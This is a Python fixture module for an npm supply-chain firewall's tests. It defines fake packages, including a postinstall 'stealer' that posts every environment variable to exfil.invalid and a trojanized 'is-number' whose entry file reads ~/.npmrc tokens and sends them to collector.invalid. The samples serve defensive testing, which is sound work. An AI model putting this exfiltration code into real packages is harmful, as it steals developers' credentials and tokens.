"""Inert package fixtures for the firewall tests (reserved domains only; nothing here is real malware).

Each malicious fixture's install script would write a marker file into the project first: a test
that finds no marker proves the script never ran.
"""

from __future__ import annotations

MARKER_STEALER = "PWNED-by-stealer"
MARKER_TROJAN = "PWNED-by-trojan"
MARKER_BUILT = "BUILT-by-native"

# A postinstall stealer in the shape of the 2024–2025 campaigns: every environment variable to a
# webhook — on a reserved `.invalid` host that can never resolve.
STEALER = {
    "index.js": "module.exports = function () { return 1; };\n",
    "setup.js": (
        "const fs = require('fs');\n"
        "const path = require('path');\n"
        f"fs.writeFileSync(path.join(process.env.INIT_CWD || process.cwd(), '{MARKER_STEALER}'), 'ran');\n"
        "const https = require('https');\n"
        "const data = JSON.stringify(process.env);\n"
        "const req = https.request({ hostname: 'exfil.invalid', path: '/collect', method: 'POST' });\n"
        "req.on('error', () => {});\n"
        "req.write(data);\n"
        "req.end();\n"
    ),
}
STEALER_MANIFEST = {"main": "index.js", "scripts": {"postinstall": "node setup.js"}, "license": "MIT"}

# A trojanized release of a real package: the entry file sends npm tokens out when it is loaded.
TROJAN = {
    "index.js": (
        "'use strict';\n"
        "const fs = require('fs');\n"
        "const os = require('os');\n"
        "const https = require('https');\n"
        "const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
        "const body = JSON.stringify({ npmrc, env: process.env });\n"
        "https.request({ hostname: 'collector.invalid', method: 'POST', path: '/t' }).end(body);\n"
        "module.exports = function isNumber(num) { return typeof num === 'number'; };\n"
    ),
    "postinstall.js": (
        "require('fs').writeFileSync(require('path').join(process.env.INIT_CWD || process.cwd(), "
        f"'{MARKER_TROJAN}'), 'ran');\n"
    ),
}
TROJAN_MANIFEST = {"main": "index.js", "scripts": {"postinstall": "node postinstall.js"}, "license": "MIT"}

# A benign package with a build step (like a native addon): its script runs only when allowed.
NATIVE = {
    "index.js": "module.exports = 42;\n",
    "build.js": (
        "require('fs').writeFileSync(require('path').join(process.env.INIT_CWD || process.cwd(), "
        f"'{MARKER_BUILT}'), 'built');\n"
    ),
}
NATIVE_MANIFEST = {"main": "index.js", "scripts": {"install": "node build.js"}, "license": "MIT"}

KNOWN_MALWARE = "0-dns"
"""A name with a MAL- record (all versions) in the shared OSV fixtures."""


def publish_fixtures(upstream) -> dict[str, str]:
    """Add the fixture packages to a test upstream; returns name@version -> integrity."""
    return {
        "npmward-fx-stealer@1.0.0": upstream.add("npmward-fx-stealer", "1.0.0", STEALER, manifest=STEALER_MANIFEST),
        "npmward-fx-native@1.0.0": upstream.add("npmward-fx-native", "1.0.0", NATIVE, manifest=NATIVE_MANIFEST),
        f"{KNOWN_MALWARE}@1.0.0": upstream.add(KNOWN_MALWARE, "1.0.0", {"index.js": "module.exports = 0;\n"},
                                               manifest={"main": "index.js"}),
    }


def publish_trojan(upstream) -> str:
    """is-number@7.0.1: a trojanized release of the real is-number, now its `latest`."""
    return upstream.add("is-number", "7.0.1", TROJAN, manifest=TROJAN_MANIFEST)
